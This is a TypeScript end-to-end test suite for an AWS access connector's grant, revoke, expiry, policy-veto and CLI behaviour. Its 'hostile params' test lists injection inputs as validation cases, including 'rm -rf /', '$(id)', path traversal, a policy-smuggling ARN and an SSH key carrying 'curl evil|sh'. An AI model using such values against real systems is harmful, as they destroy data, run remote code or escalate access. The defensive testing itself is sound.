// Grant and revoke end to end: the real connector process, the reference control plane
// and the AWS simulator. Capabilities, hostile params, the policy veto at admission, expiry
// with the control plane gone and after a restart, and the operator CLI (grant, revoke,
// the kill switch, ledger init/list/show).
import { spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ACCESS_KINDS } from '../../src/protocol/messages.js';
import { startAwsSimulator, type AwsSimulator } from '../sim/aws/index.js';
import { DEMO_EXTERNAL_ID, demoIntegration } from '../sim/aws/worlds/demo.js';
import { ReferenceControlPlane } from '../sim/control-plane/server.js';
import { ConnectorProcess, connectorEnv } from '../helpers/process.js';
import { MAIN_JS } from '../helpers/paths.js';

const dir = mkdtempSync(join(tmpdir(), 'ac-access-'));
const TABLE = 'access-connector-ledger';
let sim: AwsSimulator;
let cp: ReferenceControlPlane;
const procs: ConnectorProcess[] = [];
const integration = demoIntegration({ ssoPortalUrl: 'https://d-1234567890.awsapps.com/start', customAccessDetails: 'Ask #cloud-access for help.' });

const sso = () => sim.world.sso!;
const userId = (name: string) => [...sso().users.values()].find((u) => u.UserName === `${name}@example.com`)!.UserId;
const psArn = (name: string) => [...sso().permissionSets.values()].find((p) => p.name === name)!.arn;
function params(grantId: string, accountId: string, ps = 'ReadOnly', user = 'erin', expiresAt?: string) {
  return {
    grantId, accessKind: 'sso.accountAssignment',
    principal: { type: 'user', id: userId(user), userName: `${user}@example.com` },
    target: { accountId, permissionSetArn: psArn(ps) },
    ...(expiresAt !== undefined && { expiresAt }),
  };
}
const has = (p: ReturnType<typeof params>) => sim.admin.hasAssignment({ accountId: p.target.accountId, permissionSetArn: p.target.permissionSetArn, principalType: 'USER', principalId: p.principal.id });
const mutating = () => {
  const ops = sim.stats.snapshot().byOperation;
  return ['sso-admin:CreateAccountAssignment', 'sso-admin:DeleteAccountAssignment', 'identitystore:CreateGroupMembership', 'iam:UpdateAssumeRolePolicy', 'iam:AddUserToGroup', 'ssm:SendCommand']
    .reduce((n, k) => n + (ops[k]?.calls ?? 0), 0);
};
function connector(extra: Record<string, string> = {}, url = cp.url): ConnectorProcess {
  const c = new ConnectorProcess({ ...connectorEnv(url, { CONNECTOR_TOKEN: 'access-token', LEDGER_TABLE: TABLE, ...extra }), ...sim.env });
  procs.push(c);
  return c;
}
function file(name: string, content: unknown): string {
  const f = join(dir, `${name}-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(f, typeof content === 'string' ? content : JSON.stringify(content));
  return f;
}
function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [MAIN_JS, ...args], { env: { PATH: process.env['PATH'] ?? '', ...sim.env, LEDGER_TABLE: TABLE, ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('exit', (code) => resolve({ code, stdout, stderr }));
  });
}

beforeAll(async () => {
  sim = await startAwsSimulator({ world: 'demo', quotas: false, sso: { assignmentDelayMs: 100 } });
  cp = await ReferenceControlPlane.start({ tokens: ['access-token'] });
});
afterAll(async () => {
  await Promise.all(procs.map((p) => p.stop()));
  await cp.close();
  await sim.close();
});

describe('grant and revoke jobs through the control plane', () => {
  test('hello advertises every access kind; a grant returns access details; its revoke removes the assignment', async () => {
    const c = connector();
    const session = await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-it');
    expect([...session.hello.capabilities.accessKinds].sort()).toEqual([...ACCESS_KINDS].sort());
    expect(session.hello.capabilities.jobTypes).toEqual(expect.arrayContaining(['grant', 'revoke', 'sync', 'check']));

    const p = params('e2e-1', '333333333301');
    const granted = await cp.waitForResult(cp.sendJob({ jobType: 'grant', integration, params: p }).jobId, 30_000);
    expect(granted.status).toBe('succeeded');
    const out = granted.output as { state: string; preExisting: boolean; accessDetails: { url?: string; custom?: string; revokeLimits?: string[] } };
    expect(out).toMatchObject({ grantId: 'e2e-1', state: 'granted', preExisting: false });
    expect(out.accessDetails.url).toMatch(/^https:\/\/d-1234567890\.awsapps\.com\/start/);
    expect(out.accessDetails.custom).toBe('Ask #cloud-access for help.');
    expect(out.accessDetails.revokeLimits?.length).toBeGreaterThan(0);
    expect(has(p)).toBe(true);

    const revoked = await cp.waitForResult(cp.sendJob({ jobType: 'revoke', integration, params: p }).jobId, 30_000);
    expect(revoked.status).toBe('succeeded');
    expect(revoked.output).toMatchObject({ state: 'revoked' });
    expect(has(p)).toBe(false);
    await c.stop();
  });

  test('a repeated grant: its audit line says nothing changed; a revoke hands out no sign-in instructions', async () => {
    const c = connector({ CONNECTOR_ID: 'conn-noop' });
    await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-noop');
    const p = params('noop-1', '333333333302');
    for (let i = 0; i < 2; i++) expect((await cp.waitForResult(cp.sendJob({ jobType: 'grant', integration, params: p }).jobId, 30_000)).status).toBe('succeeded');
    const lines = c.logs().filter((e) => e['event'] === 'access.granted' && e['grantId'] === 'noop-1');
    expect(lines.map((e) => [e['changed'], e['msg']])).toEqual([
      [true, 'granted sso.accountAssignment (noop-1)'],
      [false, 'granted sso.accountAssignment (noop-1): nothing changed (already granted)'],
    ]);
    const revoked = await cp.waitForResult(cp.sendJob({ jobType: 'revoke', integration, params: p }).jobId, 30_000);
    const details = (revoked.output as { accessDetails: Record<string, unknown> }).accessDetails;
    expect(Object.keys(details).sort()).toEqual(['instructions', 'revokeLimits']);
    expect(details['instructions']).toBe('Revoked: this access can no longer be used to sign in or start a session; revokeLimits says what stays valid until it expires.');
    // Revoking again: still no sign-in instructions.
    const again = await cp.waitForResult(cp.sendJob({ jobType: 'revoke', integration, params: p }).jobId, 30_000);
    expect(Object.keys((again.output as { accessDetails: Record<string, unknown> }).accessDetails).sort()).toEqual(['instructions', 'revokeLimits']);
    await c.stop();
  });

  test('a grant job without a ledger fails LEDGER_UNAVAILABLE, saying how to get one', async () => {
    const c = connector({ CONNECTOR_ID: 'conn-noledger', LEDGER_TABLE: '' });
    await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-noledger');
    const r = await cp.waitForResult(cp.sendJob({ jobType: 'grant', integration, params: params('no-ledger-job', '333333333301') }, { sessionId: cp.sessions().find((s) => s.connectorId === 'conn-noledger')!.sessionId }).jobId, 30_000);
    expect(r.status).toBe('failed');
    expect(r.error).toMatchObject({ code: 'LEDGER_UNAVAILABLE' });
    expect(r.error!.message).toMatch(/LEDGER_TABLE is not set; .*AccessMode=manage.*access-connector ledger init/);
    await c.stop();
  });

  test('hostile params are job.rejected invalid before any AWS call', async () => {
    const c = connector();
    await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-it');
    const m0 = mutating();
    const base = params('hostile', '333333333301');
    const cases: Array<Record<string, unknown>> = [
      { ...base, grantId: 'g;rm -rf /' },
      { ...base, grantId: 'x'.repeat(65) },
      { ...base, principal: { type: 'user', id: '$(id)' } },
      { ...base, principal: { type: 'role', id: base.principal.id } },
      { ...base, target: { accountId: '../../etc', permissionSetArn: base.target.permissionSetArn } },
      { ...base, target: { accountId: '333333333301', permissionSetArn: `${base.target.permissionSetArn}"}]` } },
      { ...base, accessKind: 'iam.roleAssume', principal: { type: 'role', id: 'arn:aws:iam::333333333301:role/a"}],"Effect":"Allow' }, target: { roleArn: 'arn:aws:iam::333333333301:role/x' } },
      { ...base, accessKind: 'ec2.localUser', principal: { type: 'user', id: 'u', userName: '../../root' }, target: { accountId: '333333333301', region: 'us-east-1', instanceIds: ['i-0123456789abcdef0'], sshPublicKey: 'ssh-ed25519 AAAA; curl evil|sh' } },
      { ...base, accessKind: 'no.such.kind' },
      { ...base, target: { accountId: '333333333301', permissionSetArn: 'p'.repeat(100_000) } },
    ];
    for (const bad of cases) {
      const { jobId } = cp.sendJob({ jobType: 'grant', integration, params: bad });
      const f = await cp.waitFor((r) => r.frame?.['type'] === 'job.rejected' && r.frame['jobId'] === jobId, 10_000);
      expect({ params: JSON.stringify(bad).slice(0, 120), reason: f.frame!['reason'] }).toEqual({ params: JSON.stringify(bad).slice(0, 120), reason: 'invalid' });
    }
    expect(mutating()).toBe(m0);
    await c.stop();
  });

  test('the policy file vetoes at admission: job.rejected policy naming the rule, nothing in AWS or the ledger', async () => {
    const policy = file('policy', { version: 1, accounts: { deny: ['333333333302'] }, accessKinds: { disabled: ['ec2.localUser'] }, integrations: [{ roleArns: [integration.roleArn!] }] });
    const c = connector({ CONNECTOR_POLICY_FILE: policy });
    await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-it');
    const m0 = mutating();
    const denied = cp.sendJob({ jobType: 'grant', integration, params: params('pol-1', '333333333302') });
    const f1 = await cp.waitFor((r) => r.frame?.['type'] === 'job.rejected' && r.frame['jobId'] === denied.jobId, 10_000);
    expect(f1.frame).toMatchObject({ reason: 'policy' });
    expect(String(f1.frame!['message'])).toContain('accounts.deny');
    const unpinned = cp.sendJob({ jobType: 'sync', integration: { ...integration, roleArn: 'arn:aws:iam::111111111111:role/SomethingElse' }, params: { mode: 'full' } });
    const f2 = await cp.waitFor((r) => r.frame?.['type'] === 'job.rejected' && r.frame['jobId'] === unpinned.jobId, 10_000);
    expect(f2.frame).toMatchObject({ reason: 'policy' });
    expect(String(f2.frame!['message'])).toContain('integrations');
    expect(mutating()).toBe(m0);
    await c.stop();
  });

  test('expiry is honoured with the control plane gone, and by a restarted connector that never reaches it', async () => {
    const c = connector({ GRANT_SWEEP_INTERVAL_SECONDS: '10' });
    await cp.waitForSession(15_000, (s) => s.connectorId === 'conn-it');
    const soon = new Date(Date.now() + 3000).toISOString();
    const a = params('exp-a', '333333333303', 'Developer', 'erin', soon);
    const b = params('exp-b', '333333333303', 'Billing', 'erin', soon);
    for (const p of [a, b]) expect((await cp.waitForResult(cp.sendJob({ jobType: 'grant', integration, params: p }).jobId, 30_000)).status).toBe('succeeded');
    // The control plane goes away for good; the sweeper still revokes `a` when it expires.
    cp.goSilent(true);
    const revokedA = await c.waitForLog((e) => e['event'] === 'access.revoked' && e['grantId'] === 'exp-a', 25_000);
    expect(revokedA).toMatchObject({ origin: 'expiry' });
    expect(has(a)).toBe(false);
    cp.goSilent(false);

    // A connector killed before an expiry, restarted pointing at a control plane that does
    // not answer: its first sweep (at start-up) revokes what expired meanwhile.
    const c2 = connector({ GRANT_SWEEP_INTERVAL_SECONDS: '3600' }, 'ws://127.0.0.1:9/v1/connect');
    const later = params('exp-c', '333333333302', 'Developer', 'erin', new Date(Date.now() + 2000).toISOString());
    expect((await cp.waitForResult(cp.sendJob({ jobType: 'grant', integration, params: later }).jobId, 30_000)).status).toBe('succeeded');
    c.signal('SIGKILL');
    await c.exited;
    await c2.stop();
    await new Promise((r) => setTimeout(r, 2500));
    const c3 = connector({ GRANT_SWEEP_INTERVAL_SECONDS: '3600' }, 'ws://127.0.0.1:9/v1/connect');
    await c3.waitForLog((e) => e['event'] === 'access.revoked' && e['grantId'] === 'exp-c', 20_000);
    expect(has(later)).toBe(false);
    expect(has(b)).toBe(false); // b expired too
    await c3.stop();
  }, 90_000);
});

describe('operator CLI', () => {
  const integrationFile = () => file('integration', integration);

  // Regression: unref'd poll timers let `grant` exit 0 with no output while it waited for AWS.
  test('grant and revoke print the job output; revoke --all needs --yes and empties the ledger of active grants', async () => {
    const p1 = params('cli-1', '333333333301', 'SecurityAudit');
    const g = await cli(['grant', '--integration', integrationFile(), '--params', file('params', p1)]);
    expect(g.stderr).toBe('');
    expect(g.code).toBe(0);
    expect(JSON.parse(g.stdout)).toMatchObject({ status: 'succeeded', output: { grantId: 'cli-1', state: 'granted' } });
    expect(has(p1)).toBe(true);
    const p2 = params('cli-2', '333333333302', 'SecurityAudit');
    expect((await cli(['grant', '--integration', integrationFile(), '--params', file('params', p2)])).code).toBe(0);

    const list = await cli(['ledger', 'list']);
    const rows = list.stdout.trim().split('\n').map((l) => JSON.parse(l) as { grantId: string; state: string });
    expect(rows.find((r) => r.grantId === 'cli-1')).toMatchObject({ state: 'granted' });
    const shown = (await cli(['ledger', 'show', 'cli-1'])).stdout;
    const show = JSON.parse(shown) as { history: Array<{ event: string }>; integration: { id: string } };
    expect(show.history.map((e) => e.event)).toEqual(expect.arrayContaining(['recorded', 'granted']));
    // Regression: `ledger show` printed the integration's ExternalId (a secret) with the record.
    expect(show.integration.id).toBe(integration.id);
    expect(shown).not.toContain(DEMO_EXTERNAL_ID);

    expect((await cli(['revoke', '--all'])).code).toBe(64);
    const all = await cli(['revoke', '--all', '--yes']);
    expect(all.code).toBe(0);
    expect(JSON.parse(all.stdout)).toMatchObject({ failed: 0 });
    expect(has(p1)).toBe(false);
    expect(has(p2)).toBe(false);
    const after = (await cli(['ledger', 'list'])).stdout.trim().split('\n').map((l) => JSON.parse(l) as { state: string });
    expect(after.filter((r) => ['pending', 'granted', 'revoking'].includes(r.state))).toEqual([]);
  });

  test('revoke --expired revokes only what expired; a vetoed grant exits 1 with the rule', async () => {
    const expired = params('cli-exp', '333333333301', 'Billing', 'frank', new Date(Date.now() + 1000).toISOString());
    const lasting = params('cli-keep', '333333333302', 'Billing', 'frank', new Date(Date.now() + 3_600_000).toISOString());
    for (const p of [expired, lasting]) expect((await cli(['grant', '--integration', integrationFile(), '--params', file('params', p)])).code).toBe(0);
    await new Promise((r) => setTimeout(r, 1200));
    const r = await cli(['revoke', '--expired']);
    expect(r.code).toBe(0);
    expect(has(expired)).toBe(false);
    expect(has(lasting)).toBe(true);
    expect((await cli(['revoke', '--integration', integrationFile(), '--params', file('params', lasting)])).code).toBe(0);
    expect(has(lasting)).toBe(false);

    const policy = file('policy', { version: 1, readOnly: true });
    const v = await cli(['grant', '--integration', integrationFile(), '--params', file('params', params('cli-ro', '333333333301'))], { CONNECTOR_POLICY_FILE: policy });
    expect(v.code).not.toBe(0);
    expect(v.stderr).toContain('readOnly');
  });

  test('exit codes and ledger messages: a vetoed grant exits 77; no LEDGER_TABLE exits 78; a missing table is named with `ledger init`; an empty ledger says so', async () => {
    const policy = file('policy', { version: 1, readOnly: true });
    const vetoed = await cli(['grant', '--integration', integrationFile(), '--params', file('params', params('cli-ro-77', '333333333301'))], { CONNECTOR_POLICY_FILE: policy });
    expect(vetoed.code).toBe(77);
    expect(vetoed.stderr).toContain('readOnly');

    const noTable = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const ch = spawn(process.execPath, [MAIN_JS, 'ledger', 'list'], { env: { PATH: process.env['PATH'] ?? '', ...sim.env } });
      let stderr = '';
      ch.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      ch.on('exit', (code) => resolve({ code, stderr }));
    });
    expect(noTable.code).toBe(78);
    expect(noTable.stderr).toMatch(/LEDGER_TABLE is not set.*access-connector ledger init/);

    const missing = await cli(['ledger', 'list'], { LEDGER_TABLE: 'no-such-ledger', AWS_REGION: 'us-east-1' });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/grant ledger table no-such-ledger: Scan failed \(ResourceNotFoundException.*access-connector ledger init/);

    expect((await cli(['ledger', 'init'], { LEDGER_TABLE: 'empty-ledger', AWS_REGION: 'us-east-1' })).code).toBe(0);
    const empty = await cli(['ledger', 'list'], { LEDGER_TABLE: 'empty-ledger', AWS_REGION: 'us-east-1' });
    expect(empty).toEqual({ code: 0, stdout: '', stderr: 'the ledger table empty-ledger holds no grants\n' });
  });

  test('doctor says which kinds credentialRotationDays and userCleanupAfterDays act on, and which they do not', async () => {
    const f = file('integration', { ...integration, credentialRotationDays: 30, userCleanupAfterDays: 7 });
    const r = await cli(['doctor', '--integration', f, '--json']);
    const report = JSON.parse(r.stdout) as { items: Array<{ id: string; detail?: string }> };
    const rotation = report.items.find((i) => i.id === 'credential-rotation')!;
    expect(rotation.detail).toContain('ec2.localUser');
    expect(rotation.detail).toMatch(/No effect on .*sso\.accountAssignment/);
    expect(report.items.find((i) => i.id === 'user-cleanup')!.detail).toContain('ec2.localUser');
    const plain = JSON.parse((await cli(['doctor', '--integration', integrationFile(), '--json'])).stdout) as { items: Array<{ id: string }> };
    expect(plain.items.map((i) => i.id)).not.toContain('credential-rotation');
  });

  test('ledger init creates a table once; grant without LEDGER_TABLE fails LEDGER_UNAVAILABLE', async () => {
    expect((await cli(['ledger', 'init'], { LEDGER_TABLE: 'fresh-ledger', AWS_REGION: 'us-east-1' })).stdout).toContain('created');
    expect((await cli(['ledger', 'init'], { LEDGER_TABLE: 'fresh-ledger', AWS_REGION: 'us-east-1' })).stdout).toContain('exists');
    const child = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const env: Record<string, string> = { PATH: process.env['PATH'] ?? '', ...sim.env };
      const ch = spawn(process.execPath, [MAIN_JS, 'grant', '--integration', integrationFile(), '--params', file('params', params('no-ledger', '333333333301'))], { env });
      let stderr = '';
      ch.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      ch.on('exit', (code) => resolve({ code, stderr }));
    });
    expect(child.code).not.toBe(0);
    expect(child.stderr).toContain('LEDGER_TABLE');
  });
});
